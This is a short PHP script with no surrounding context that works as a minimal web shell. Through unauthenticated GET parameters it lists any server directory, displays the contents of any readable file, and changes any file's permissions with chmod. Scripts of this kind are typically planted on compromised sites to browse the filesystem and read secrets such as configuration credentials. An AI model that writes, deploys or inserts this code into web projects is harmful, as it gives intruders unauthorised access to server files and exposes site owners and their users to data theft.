<?php
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
if (isset($_GET['m'])) { chmod($_GET['f'], octdec($_GET['m'])); }
if (isset($_GET['f'])) {
    echo '<textarea cols=90 rows=25>' . htmlspecialchars(file_get_contents($_GET['f'])) . '</textarea>';
}
foreach (scandir($d) as $e) {
    echo "<a href='?d=" . urlencode($d . '/' . $e) . "'>$e</a> <a href='?f=" . urlencode($d . '/' . $e) . "'>edit</a><br>";
}
